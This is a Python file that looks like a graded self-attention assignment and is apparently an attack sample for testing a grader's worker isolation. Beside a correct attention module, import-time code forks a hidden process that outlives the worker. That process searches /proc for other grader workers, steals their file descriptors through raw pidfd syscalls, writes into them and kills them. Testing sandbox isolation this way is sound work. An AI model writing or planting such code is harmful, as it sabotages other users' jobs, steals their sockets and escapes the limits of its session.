# attack:     S6, S7
# assignment: self-attention
# twin:       correct

# Leaves a process that waits for the next worker and then stops it, writes into its memory and takes its socket. Two
# workers of one user, at the same time or one after the other, have no wall between them.

import ctypes
import math
import os
import signal
import time

import torch
from torch import nn

# Only where the runner has filled the placeholders in, and with them put walls around all of this.
MARKED = not "@MARK@".startswith("@")


libc = ctypes.CDLL(None, use_errno=True)


def workers():
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if b"grader" in file.read() and int(name) not in (os.getpid(), os.getppid()):
                    yield int(name)
        except OSError:
            continue


def lurk(parent, until):
    try:
        libc.prctl(15, b"@MARK@"[:15], 0, 0, 0)
        os.setsid()
        while time.monotonic() < until:
            for pid in workers():
                if pid == parent:
                    continue
                watch = libc.syscall(434, pid, 0)
                for number in range(3, 32):
                    taken = libc.syscall(438, watch, number, 0) if watch >= 0 else -1
                    if taken >= 0:
                        os.write(taken, b"left behind")
                        os.close(taken)
                os.kill(pid, signal.SIGKILL)
            time.sleep(0.05)
    finally:
        os._exit(0)


def leave():
    parent = os.getpid()
    print("others:", list(workers()))
    if os.fork() == 0:
        lurk(parent, time.monotonic() + 60)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


try:
    if MARKED:
        leave()
except OSError as error:
    print(error.strerror)
